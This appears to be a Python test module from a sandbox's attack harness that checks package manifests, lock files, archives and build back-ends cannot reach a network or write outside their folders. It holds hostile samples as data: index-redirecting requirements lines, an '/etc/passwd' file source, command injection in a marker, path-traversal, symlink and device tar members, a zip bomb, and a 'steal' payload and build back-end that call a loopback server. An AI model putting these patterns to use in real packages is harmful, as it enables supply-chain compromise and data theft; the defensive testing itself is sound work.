"""THREATS S: what manifests, lock files, archives and builds of packages try, through the whole product.

The rule that they attack: nothing that runs code of a repository or a package has a network; nothing that has a network
runs code of a repository or a package. The index of packages is a server of ours on loopback.
"""

from __future__ import annotations

import os
import re
import stat
import sys
import tarfile
import urllib.error
import urllib.request
import zipfile
from collections.abc import Callable
from contextlib import suppress
from io import BytesIO
from pathlib import Path

from sandbox.attack.harness.entry import AttackEntry
from sandbox.attack.harness.outcomes import GotThrough
from sandbox.attack.harness.package_index import PackageIndex, make_wheel, serve_packages
from sandbox.attack.harness.package_runs import PROJECT, needs_layers, open_controller, run_files
from sandbox.attack.harness.scene import Scene, remove, require_equal, require_hit, require_refusal
from sandbox.errors import ErrorCode
from sandbox.git.unhardened import run_unhardened
from sandbox.models import LayerDetails, RunSummary, Verdict
from sandbox.workbench import Workbench

STOLEN = "stolen"
"""A part of each address that must not be asked for."""
GOOD = '[project]\nname = "p"\nversion = "1"\ndependencies = ["good"]\n'


def _was_asked(index: PackageIndex) -> bool:
    return any(STOLEN in path for path in index.asked)


def _layer_of(workbench: Workbench, summary: RunSummary) -> LayerDetails:
    require_equal(summary.verified, True, f"the check, {summary.runs[0].stderr_tail[-300:]}")
    return workbench.layer(summary.runs[0].layers[0])


# --- manifests


def _write_manifests(port: int) -> dict[str, str]:
    """A project that needs `good`; everything else in its files leads elsewhere."""
    there = f"http://localhost:{port}/{STOLEN}"
    lines = (
        "good",
        f"--index-url {there}",
        f"--extra-index-url={there}",
        f"-f {there}",
        f"-r {there}/list.txt",
        f"direct @ {there}/direct-1-py3-none-any.whl",
        f"tracked @ git+{there}/tracked.git",
        "-e ./evil",
        "./evil",
        "local @ file:///etc/passwd",
        f'marked; os_name == " --index-url={there}"',
        "computed; __import__('os').system('true')",
        "exact===../evil",
        "sourced",
    )
    return {
        "pyproject.toml": f'{GOOD}[[tool.uv.index]]\nurl = "{there}"\ndefault = true\n'
        f'[tool.uv.sources]\nsourced = {{ url = "{there}/sourced-1-py3-none-any.whl" }}\n',
        "requirements.txt": "".join(f"{line}\n" for line in lines),
        "uv.toml": f'index-url = "{there}"\n',
        "pip.conf": f"[global]\nindex-url = {there}\n",
        "evil/setup.py": f"import urllib.request\nurllib.request.urlopen('{there}/ran')\n",
        "use.py": "import good\n",
    }


def _addresses_are_followed(scene: Scene) -> str:
    del scene
    with serve_packages() as index:
        found = re.findall(r"http://[^\s\"'}]+", " ".join(_write_manifests(index.port).values()))
        for address in found:
            with suppress(urllib.error.HTTPError):
                urllib.request.urlopen(address, timeout=5).close()  # noqa: S310 - of our own server
        require_hit(len(index.asked) == len(found) and _was_asked(index), "the addresses lead to no server")
    return f"a reader that follows what is written asked {len(found)} addresses of the manifests' choice"


def _only_names_survive(scene: Scene) -> str:
    with serve_packages() as index, open_controller(scene, index) as workbench:
        for name in ("good", "direct", "tracked", "local", "marked", "computed", "exact", "sourced"):
            index.add(name, "1", {f"{name}.py": ""})
        details = _layer_of(workbench, run_files(scene, workbench, "manifests", _write_manifests(index.port)))
        if _was_asked(index):
            raise GotThrough("an address of a manifest was asked for")
    require_equal([package.name for package in details.layer.packages], ["good"], "the packages of the layer")
    reasons = {entry.reason.value for resolution in details.resolutions for entry in resolution.refused}
    require_equal({"option", "url", "version_control", "path", "marker"} - reasons, set(), "reasons that are missing")
    return f"only the name survived; refused by name: {', '.join(sorted(reasons))}"


# --- archives


def _hostile_members() -> list[tarfile.TarInfo]:
    """Entries of a source distribution: above its folder, absolute, through a link, and a device."""
    link = tarfile.TarInfo("linked-1/way-out")
    link.type, link.linkname = tarfile.SYMTYPE, "../../.."
    hard = tarfile.TarInfo("linked-1/hard")
    hard.type, hard.linkname = tarfile.LNKTYPE, "../../../../../etc/passwd"
    device = tarfile.TarInfo("linked-1/device")
    device.type, device.devmajor, device.devminor = tarfile.CHRTYPE, 1, 3
    through, above = tarfile.TarInfo("linked-1/way-out/escaped"), tarfile.TarInfo("linked-1/../../escaped")
    return [link, through, above, hard, device]


def _archives_escape(scene: Scene) -> str:
    top = scene.root / "careless"
    folder = top / "a/b/site-packages"
    folder.mkdir(parents=True)
    _, content = make_wheel("evil", "1", {"../escaped": "x"})
    with zipfile.ZipFile(BytesIO(content)) as archive:
        (folder / "../escaped").write_bytes(archive.read("../escaped"))  # names are joined to the folder, unseen
    (folder / "linked-1").mkdir()
    (folder / "linked-1/way-out").symlink_to("../../..")
    (folder / "linked-1/way-out/escaped").touch()  # the next entry is written through the link
    escaped = [path for path in top.rglob("escaped") if folder not in path.parents]
    require_hit(len(escaped) == 2, "no file was written outside of the folder")
    remove(top)
    return "unpacked by joining names, two files left their folder"


def _archives_stay(scene: Scene) -> str:
    project = PROJECT.replace('"evil"', '"evil", "linked"')
    with serve_packages() as index, open_controller(scene, index) as workbench:
        index.add("evil", "1", {"evil.py": "", "../../../../../escaped": "x", "/tmp/escaped": "x"})  # noqa: S108 - a name in an archive
        index.add_source("linked", "1", {"backend.py": "raise SystemExit(1)\n"}, members=_hostile_members())
        details = _layer_of(
            workbench, run_files(scene, workbench, "archives", {"pyproject.toml": project, "use.py": "import evil\n"})
        )
        trees = scene.home / "repositories/dependencies/trees"
        wrong = [path for path in trees.rglob("*") if not _is_plain(path, trees)]
        escaped = [*scene.root.rglob("escaped"), *Path("/tmp").glob("escaped")]  # noqa: S108 - where an archive leads
    if wrong or escaped:
        raise GotThrough(f"an archive left {', '.join(map(str, (wrong + escaped)[:3]))}")
    require_equal([package.name for package in details.layer.packages], ["evil"], "the packages of the layer")
    return "no file was written outside of the layer; it has no device and no link that leads into the host"


def _is_plain(path: Path, trees: Path) -> bool:
    """A file, a folder, or a link within the layer or to the image's interpreter."""
    mode = path.lstat().st_mode
    if not stat.S_ISLNK(mode):
        return stat.S_ISREG(mode) or stat.S_ISDIR(mode)
    target = path.readlink()
    if target.is_absolute():
        return path.name.startswith("python")
    return (
        trees in Path(os.path.normpath(path.parent / target)).parents
    )  # as written: the image's python is none of ours


# --- hashes


def _lock(digest: str) -> dict[str, str]:
    package = '[[package]]\nname = "evil"\nversion = "1"\nsource = { registry = "https://elsewhere.invalid" }\n'
    wheel = f'wheels = [{{ url = "https://elsewhere.invalid/evil", hash = "sha256:{digest}" }}]\n'
    return {"pyproject.toml": PROJECT, "uv.lock": package + wheel, "use.py": "import evil\n"}


def _taken_by_name(scene: Scene) -> str:
    del scene
    with serve_packages() as index:
        locked = index.add("evil", "1", {"evil.py": "value = 1\n"})
        served = index.add("evil", "1", {"evil.py": "value = 2\n"})
        page = (index.answer("/simple/evil/") or b"").decode()
    require_hit(locked != served and served in page and locked not in page, "the index serves what was locked")
    return "the index names and serves other bytes than those that were locked: a fetch by name and version takes them"


def _compared_with_the_lock(scene: Scene) -> str:
    with serve_packages() as index, open_controller(scene, index) as workbench:
        locked = index.add("evil", "1", {"evil.py": "value = 1\n"})
        honest = run_files(scene, workbench, "honest", _lock(locked))
        require_hit(honest.verified and honest.runs[0].layers, "the honest archive is not used either")
        for layer in workbench.layers():
            workbench.remove_layer(layer.key)
        index.add("evil", "1", {"evil.py": "value = 2\n"})
        refused = require_refusal(
            lambda: run_files(scene, workbench, "swapped", _lock(locked) | {"more": "x"}), ErrorCode.POLICY_VIOLATION
        )
        require_equal(workbench.layers(), (), "layers")
    return f"{refused.brief}"


# --- code


def _payload(port: int) -> str:
    """Code that asks a server, directly and through the proxy of a fetch, whenever any of it runs."""
    return f"""
import urllib.error, urllib.request
def steal(moment):
    for proxies in ({{}}, {{"http": "http://127.0.0.1:3128"}}):
        opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
        try:
            opener.open("http://localhost:{port}/{STOLEN}/" + moment, timeout=3)
        except OSError:
            pass
"""


def _code_asks(scene: Scene) -> str:
    with serve_packages() as index:
        program = f"{_payload(index.port)}\nsteal('host')"
        run_unhardened([sys.executable, "-I", "-c", program], cwd=scene.root, home=scene.root)
        require_hit(_was_asked(index), "the code did not reach the server from this host")
    return "run on this host, the same code reached the server"


def _back_end(port: int, name: str) -> str:
    """A build back-end that asks the server when it is imported, when it describes, and when it builds."""
    return f"""{_payload(port)}
import pathlib, zipfile
steal("import")
def get_requires_for_build_wheel(config=None):
    steal("requires")
    return []
def prepare_metadata_for_build_wheel(folder, config=None):
    steal("metadata")
    info = pathlib.Path(folder, "{name}-1.dist-info")
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\\nName: {name}\\nVersion: 1\\nRequires-Dist: evil\\n")
    return info.name
def build_wheel(folder, config=None, metadata=None):
    steal("build")
    file, info = "{name}-1-py3-none-any.whl", "{name}-1.dist-info/"
    with zipfile.ZipFile(folder + "/" + file, "w") as wheel:
        wheel.writestr("{name}.py", "built = True\\n")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return file
"""


def _code_is_alone(scene: Scene) -> str:
    build = '[build-system]\nrequires = []\nbuild-backend = "own_backend"\nbackend-path = ["."]\n'
    with serve_packages() as index, open_controller(scene, index) as workbench:
        index.add_source("evil", "1", {"backend.py": _back_end(index.port, "evil"), "setup.py": _payload(index.port)})
        files = {
            "pyproject.toml": f'[project]\nname = "p"\nversion = "1"\ndynamic = ["dependencies"]\n{build}',
            "own_backend.py": _back_end(index.port, "p"),
            "use.py": f"{_payload(index.port)}\nimport evil\nassert evil.built\nsteal('check')\n",
        }
        details = _layer_of(workbench, run_files(scene, workbench, "code", files))
        if _was_asked(index):
            moments = sorted({path.rpartition("/")[2] for path in index.asked if STOLEN in path})
            raise GotThrough(f"code reached the server: {', '.join(moments)}")
    require_equal([package.name for package in details.layer.packages], ["evil"], "the package that only a build names")
    return "the project was described, the package fetched, built and used: no code of either reached the server"


# --- bombs

BOMB_BYTES = 48 * 1024**2
_SMALL = f"[ceiling]\ndisk_bytes = {BOMB_BYTES * 2 // 3}\n"


def _bomb() -> str:
    return "\0" * BOMB_BYTES


def _bomb_unpacks(scene: Scene) -> str:
    _, content = make_wheel("evil", "1", {"evil.py": "", "bomb": _bomb()})
    with zipfile.ZipFile(BytesIO(content)) as archive:
        archive.extract("bomb", scene.root / "careless")
    size = (scene.root / "careless/bomb").stat().st_size
    (scene.root / "careless/bomb").unlink()
    require_hit(size == BOMB_BYTES and len(content) < BOMB_BYTES // 100, "the archive does not unpack to more")
    return f"an archive of {len(content)} bytes unpacked to {size}"


def _bomb_is_stopped(scene: Scene) -> str:
    policies = scene.home / "policies"
    policies.mkdir(exist_ok=True)
    own = policies / "container.toml"
    before = own.read_text() if own.exists() else None
    own.write_text(_SMALL)
    try:
        with serve_packages() as index, open_controller(scene, index) as workbench:
            index.add("evil", "1", {"evil.py": "", "bomb": _bomb()})
            files = {"pyproject.toml": PROJECT, "use.py": "import evil\n"}
            refused = require_refusal(lambda: run_files(scene, workbench, "bomb", files), ErrorCode.INTERNAL)
            require_equal((Verdict.DISK_LIMIT.value in refused.brief, workbench.layers()), (True, ()), refused.brief)
    finally:
        own.unlink() if before is None else own.write_text(before)
    return f"{refused.brief}; no part of it is left"


# --- the versions that a repository gets


def _choice_is_shared(scene: Scene) -> str:
    del scene
    with serve_packages() as index:
        index.add("evil", "1", {"evil.py": ""})
        choices: dict[str, str] = {}

        def choose(manifest: str) -> str:
            return choices.setdefault(manifest, max(index.wheels))

        strangers = choose(PROJECT)
        index.add("evil", "2", {"evil.py": ""})
        require_hit(choose(PROJECT) == strangers, "the newer version was chosen")
    return f"with one choice for equal manifests, another repository gets {strangers}"


def _each_chooses(scene: Scene) -> str:
    files = {"pyproject.toml": PROJECT, "use.py": "import evil\nprint('version', evil.version)\n"}
    with serve_packages() as index, open_controller(scene, index) as workbench:
        index.add("evil", "1", {"evil.py": "version = 1\n"})
        strangers = run_files(scene, workbench, "stranger", files).runs[0]
        index.add("evil", "2", {"evil.py": "version = 2\n"})
        own = run_files(scene, workbench, "own", files).runs[0]
    require_equal(strangers.stdout_tail.strip(), "version 1", "what the first repository got")
    if own.stdout_tail.strip() != "version 2":
        raise GotThrough(f"a repository with equal manifests decided: {own.stdout_tail.strip()[:100]}")
    return "another repository with the same manifests chose for itself, and got the newer version"


def _entry(id_: str, title: str, control: Callable[[Scene], str], attack: Callable[[Scene], str]) -> AttackEntry:
    return AttackEntry(
        id_, title, "run", control, attack, needs=(needs_layers,), scene="bare", needs_engine=True
    )  # fmt: skip


ENTRIES = (
    _entry("S85", "manifests that command the package manager", _addresses_are_followed, _only_names_survive),
    _entry("S86", "archives that leave their folder", _archives_escape, _archives_stay),
    _entry("S87", "another archive than the locked one", _taken_by_name, _compared_with_the_lock),
    _entry("S88", "code of a project or package and a network", _code_asks, _code_is_alone),
    _entry("S89", "an archive that unpacks without end", _bomb_unpacks, _bomb_is_stopped),
    _entry("S148", "versions that another repository chose", _choice_is_shared, _each_chooses),
)
